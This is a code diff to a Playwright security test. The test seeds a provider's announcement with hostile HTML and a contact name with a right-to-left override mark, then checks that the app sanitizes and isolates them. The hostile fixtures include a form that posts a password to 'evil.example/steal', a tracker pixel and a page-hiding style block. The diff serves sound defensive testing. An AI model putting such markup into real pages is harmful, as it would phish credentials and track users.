@@ -1,7 +1,8 @@
 /**
  * Hostile provider text in the page (the renderer in Chromium against the web host and its sandbox, whose
  * records the spec rewrites in the provider's own database, then syncs): an announcement keeps no style, form
- * or remote image (until "Show images"), and its links open in a new tab without opener or referrer; a
+ * or remote image (until "Show images", and then only as the engine fetched it: a data: URL, under the same CSP,
+ * or a note in words where it could not be), and its links open in a new tab without opener or referrer; a
  * right-to-left mark in a contact's first name stays inside that name (each value isolated).
  */
 import Database from 'better-sqlite3';
@@ -9,24 +10,28 @@ import { join } from 'node:path';
 import type { Page } from '@playwright/test';
 import { expect, showApp, testOnFilePage as test } from './fixtures/web-host';
 
-const HOSTILE = [
-  '<p>Maintenance <a href="https://status.provider.example/">status page</a></p>',
-  '<style>body { display: none }</style><p style="color: red" id="styled">styled</p>',
-  '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
-  '<img id="tracker" src="https://tracker.example/pixel.gif" alt="pixel">',
-].join('');
+/** `sandbox`: the provider's own address, where it serves an announcement's image (sandbox/server/media.ts). */
+const hostile = (sandbox: string) =>
+  [
+    '<p>Maintenance <a href="https://status.provider.example/">status page</a></p>',
+    '<style>body { display: none }</style><p style="color: red" id="styled">styled</p>',
+    '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
+    `<img id="chart" src="${sandbox}/media/uplinks.png" alt="uplink chart">`,
+    // Plain http to another machine: never fetched, shown as a note.
+    '<img id="tracker" src="http://tracker.example/pixel.gif" alt="pixel">',
+  ].join('');
 
 async function syncNow(page: Page): Promise<void> {
   await page.evaluate(() => window.desk.invoke('sync.run'));
   await expect(page.getByRole('banner').getByRole('button', { name: 'Sync', exact: true })).toBeEnabled({ timeout: 60_000 });
 }
 
-test('announcements and names from the provider are shown safely', async ({ page, webHost }) => {
+test('announcements and names from the provider are shown safely', async ({ page, webHost, problems }) => {
   await showApp(page, webHost);
   await expect(page.getByRole('banner').getByRole('button', { name: 'Sync', exact: true })).toBeVisible({ timeout: 60_000 });
   const db = new Database(join(webHost.dataDir, 'demo-provider.db'));
   const announcement = db.prepare('SELECT id FROM announcements ORDER BY id LIMIT 1').get() as { id: number };
-  db.prepare('UPDATE announcements SET announcement = ? WHERE id = ?').run(HOSTILE, announcement.id);
+  db.prepare('UPDATE announcements SET announcement = ? WHERE id = ?').run(hostile(webHost.sandbox!.baseUrl), announcement.id);
   const contact = db.prepare('SELECT id, lastname FROM contacts ORDER BY id LIMIT 1').get() as { id: number; lastname: string };
   db.prepare('UPDATE contacts SET firstname = ? WHERE id = ?').run('\u202Eevil', contact.id);
   db.close();
@@ -40,10 +45,21 @@ test('announcements and names from the provider are shown safely', async ({ page
   await expect(detail.locator('#styled')).toBeVisible();
   expect(await detail.locator('#styled').getAttribute('style')).toBeNull();
   await expect(detail.locator('form, input[name="password"], style')).toHaveCount(0);
-  const tracker = detail.locator('#tracker');
-  expect(await tracker.getAttribute('src')).toBeNull();
-  await detail.getByRole('button', { name: 'Show the image from the provider’s site' }).click();
-  await expect(tracker).toHaveAttribute('src', 'https://tracker.example/pixel.gif');
+  const chart = detail.locator('#chart');
+  expect(await chart.getAttribute('src')).toBeNull();
+  expect(await detail.locator('#tracker').getAttribute('src')).toBeNull();
+  await detail.getByRole('button', { name: 'Show the 2 images from the provider’s site' }).click();
+  // The engine fetched the sandbox's image: the page shows it from a data: URL, decoded, and reported no CSP violation.
+  await expect(chart).toHaveAttribute('src', /^data:image\/png;base64,/);
+  await expect.poll(() => chart.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth)).toBe(480);
+  // The tracker's plain-http address was never fetched: a note in its place, why on hover.
+  await expect(detail.locator('#tracker')).toHaveCount(0);
+  await expect(detail.locator('.image-failed')).toHaveText('Image not shown: pixel');
+  await expect(detail.locator('.image-failed')).toHaveAttribute('title', /https:\/\/ address/);
+  // The only violations are the hostile <style> and style= the sanitizer parses (and drops), reported at each
+  // parse from the first; none for an image, a connection or anything else.
+  expect(problems.filter((problem) => problem.startsWith('CSP violation') && !/^CSP violation: style-src-(elem|attr) inline$/.test(problem))).toEqual([]);
+  expect(problems.join('\n')).not.toMatch(/img-src|connect-src|default-src/);
 
   await page.goto(`${webHost.origin}/#/contacts/${contact.id}`);
   const title = page.getByRole('region', { name: 'Details' }).getByRole('heading', { level: 2 });
